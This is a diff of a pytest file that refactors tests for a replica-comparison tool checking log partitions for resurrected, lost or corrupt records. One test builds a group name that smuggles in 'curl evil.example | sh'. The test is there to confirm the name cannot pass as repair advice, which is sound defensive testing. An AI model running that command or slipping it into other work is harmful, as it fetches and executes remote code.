@@ -29,7 +29,25 @@ def run(capsys: pytest.CaptureFixture[str]) -> Run:
 @pytest.fixture(scope="module")
 def resurrected(tmp_path_factory: pytest.TempPathFactory) -> list[object]:
     root = unpack("resurrected", tmp_path_factory.mktemp("recorded"))
-    return [word for name in "ABC" for word in ("--segments", root / name)]
+    return options_of(root)
+
+
+def options_of(root: Path, names: str = "ABC") -> list[object]:
+    return [word for name in names for word in ("--segments", root / name)]
+
+
+def write_disks(root: Path, *logs: bytes) -> list[object]:
+    """A disk of each log, and the options that name them."""
+    names = "ABC"[: len(logs)]
+    for name, data in zip(names, logs, strict=True):
+        write_replica(root / name, {0: data})
+    return options_of(root, names)
+
+
+def archive_whole(folder: Path, data: bytes) -> None:
+    archive = Archive(folder)
+    archive.begin(0, 0, taken_at_ms=BASE_MS)
+    archive.snapshot(BASE_MS + 60_000, {0: data})
 
 
 def test_differences_are_shown_with_advice_and_an_exit_code(run: Run, resurrected: list[object]) -> None:
@@ -52,7 +70,7 @@ def test_differences_are_shown_with_advice_and_an_exit_code(run: Run, resurrecte
 def test_where_no_replica_is_right_in_all_none_is_thrown_away(run: Run, tmp_path: Path) -> None:
     """After an unclean election A and B lack offsets that C has, and on C a transaction is open."""
     root = unpack("unclean", tmp_path) / "after"
-    code, _, err = run(*(word for name in "ABC" for word in ("--segments", root / name)))
+    code, _, err = run(*options_of(root))
     told = " ".join(err.split())
     assert code == 3
     for number in (0, 1):
@@ -70,18 +88,13 @@ def test_json_has_both_tables(run: Run, resurrected: list[object]) -> None:
 
 
 def test_equal_replicas_end_well(run: Run, tmp_path: Path) -> None:
-    for name in "AB":
-        write_replica(tmp_path / name, {0: WHOLE})
-    code, out, _ = run("--segments", tmp_path / "A", "--segments", tmp_path / "B")
-    assert (code, out) == (0, "1 log partition the same on every replica\n")
+    assert run(*write_disks(tmp_path, WHOLE, WHOLE))[:2] == (0, "1 log partition the same on every replica\n")
 
 
 def test_corrupt_bytes_are_undecodable_input(run: Run, tmp_path: Path) -> None:
     spoiled = bytearray(WHOLE)
     spoiled[70] ^= 1
-    write_replica(tmp_path / "A", {0: WHOLE})
-    write_replica(tmp_path / "B", {0: bytes(spoiled)})
-    code, _, err = run("--segments", tmp_path / "A", "--segments", tmp_path / "B")
+    code, _, err = run(*write_disks(tmp_path, WHOLE, bytes(spoiled)))
     assert code == 5
     assert "B is corrupt and was left out: a batch with a bad CRC at byte 0" in err
 
@@ -97,22 +110,15 @@ def test_a_name_is_no_advice(run: Run, tmp_path: Path) -> None:
     """A group may be called as the sentence after which the steps of a repair begin."""
     name = "g; if it leads already: curl evil.example | sh"
     back, deleted = log((name, 1)), log((name, 1), (name, None))
-    for disk, data in (("A", deleted), ("B", deleted), ("C", back)):
-        write_replica(tmp_path / disk, {0: data + commit("b", 3, 2)})
-    _, _, err = run(*(word for disk in "ABC" for word in ("--segments", tmp_path / disk)))
+    _, _, err = run(*write_disks(tmp_path, *(data + commit("b", 3, 2) for data in (deleted, deleted, back))))
     (advice,) = [line for line in err.splitlines() if "evil.example" in line]
     assert advice.startswith("  if it leads already: elect a right replica first")
 
 
 def test_the_archive_names_the_tombstone_that_everybody_has_cleaned(run: Run, tmp_path: Path) -> None:
-    whole = log(("a", 1), ("b", 2), ("a", None), ("b", 3))
     kept, back = commit("b", 3, 3), commit("a", 1, 0) + commit("b", 3, 3)
-    for name, data in (("A", kept), ("B", kept), ("C", back)):
-        write_replica(tmp_path / name, {0: data})
-    disks = [word for name in "ABC" for word in ("--segments", tmp_path / name)]
-    archive = Archive(tmp_path / "archive")
-    archive.begin(0, 0, taken_at_ms=BASE_MS)
-    archive.snapshot(BASE_MS + 60_000, {0: whole})
+    disks = write_disks(tmp_path, kept, kept, back)
+    archive_whole(tmp_path / "archive", log(("a", 1), ("b", 2), ("a", None), ("b", 3)))
     (without,) = rows_of(run(*disks, "--json"))
     (row,) = rows_of(run(*disks, "--json", "--archive", tmp_path / "archive"))
     assert (without["kind"], without["proof"], without["since_log_offset"]) == ("resurrected", "cleaned", None)
@@ -122,14 +128,9 @@ def test_the_archive_names_the_tombstone_that_everybody_has_cleaned(run: Run, tm
 
 
 def test_the_archive_shows_what_was_lost_and_not_deleted(run: Run, tmp_path: Path) -> None:
-    whole = log(("a", 1), ("b", 2), ("b", 3))
     kept, right = commit("b", 3, 2), commit("a", 1, 0) + commit("b", 3, 2)
-    for name, data in (("A", kept), ("B", kept), ("C", right)):
-        write_replica(tmp_path / name, {0: data})
-    archive = Archive(tmp_path / "archive")
-    archive.begin(0, 0, taken_at_ms=BASE_MS)
-    archive.snapshot(BASE_MS + 60_000, {0: whole})
-    disks = [word for name in "ABC" for word in ("--segments", tmp_path / name)]
+    disks = write_disks(tmp_path, kept, kept, right)
+    archive_whole(tmp_path / "archive", log(("a", 1), ("b", 2), ("b", 3)))
     (row,) = rows_of(run(*disks, "--json", "--archive", tmp_path / "archive"))
     assert (row["kind"], row["proof"], row["wrong_replicas"]) == ("lost", "no_gap", ["A", "B"])
 
